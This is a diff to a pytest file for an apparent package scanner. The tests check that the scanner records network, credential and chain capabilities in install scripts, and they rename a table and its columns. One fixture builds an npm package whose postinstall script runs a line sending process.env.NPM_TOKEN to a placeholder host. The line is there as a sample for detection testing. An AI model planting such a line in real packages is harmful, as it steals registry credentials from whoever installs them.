@@ -2,7 +2,7 @@ import hashlib
 
 import pytest
 
-from knownhands.harvest.archive.artifact import keep
+from knownhands.harvest.archive.artifact import forget_older_readers, keep
 from knownhands.harvest.archive.contents import Contents, Limits, Member
 from knownhands.harvest.archive.reader import read_bytes
 from knownhands.store.connection import memory_store
@@ -34,18 +34,27 @@ def test_what_was_kept_before_is_replaced_and_what_is_of_others_stays(packages):
     assert packages.execute("SELECT artifact, count(*) FROM artifact_files GROUP BY ALL ORDER BY ALL").fetchall() == [
         ("a", 1), ("b", 1),
     ]  # fmt: skip
-    assert packages.execute("SELECT count(*) FROM artifact_facts").fetchone() == (0,)
+    assert packages.execute("SELECT count(*) FROM artifact_observations").fetchone() == (0,)
 
 
 SENDS = b"fetch('//pots.example', {body: process.env.NPM_TOKEN})\n"
 
 
 @pytest.mark.parametrize(
-    ("extra", "moment"), [((), "install"), ((("pots/setup.py", b""),), "import")], ids=["npm", "sdist"]
+    ("extra", "trigger"), [((), "install"), ((("pots/setup.py", b""),), "import")], ids=["npm", "sdist"]
 )
-def test_what_an_install_script_runs_acts_at_install_and_so_does_the_chain(packages, extra, moment):
+def test_what_an_install_script_runs_acts_at_install_and_so_does_the_chain(packages, extra, trigger):
     manifest = b'{"scripts": {"postinstall": "node fire.js"}}'
     packed = tar(("pots/package.json", manifest), ("pots/fire.js", SENDS), *extra)
     keep(packages, "a", read_bytes("pots.tar", packed))
-    found = packages.execute("SELECT kind, moment FROM artifact_facts WHERE path = 'fire.js'").fetchall()
-    assert {("network", moment), ("credential", moment), ("chain", moment)} == set(found)
+    found = packages.execute("SELECT capability, trigger FROM artifact_observations WHERE path = 'fire.js'").fetchall()
+    assert {("network", trigger), ("credential", trigger), ("chain", trigger)} == set(found)
+
+
+def test_what_other_readers_read_is_forgotten(packages):
+    keep(packages, "a", Contents("zip", "pots.zip", (Member("kiln.py", 2, b"1\n", 0, "file"),), (), True))
+    forget_older_readers(packages)
+    assert packages.execute("SELECT count(*) FROM artifacts").fetchone() == (1,)
+    packages.execute("UPDATE artifact_reader SET fingerprint = 'older'")
+    forget_older_readers(packages)
+    assert packages.execute("SELECT count(*) FROM artifacts").fetchone() == (0,)
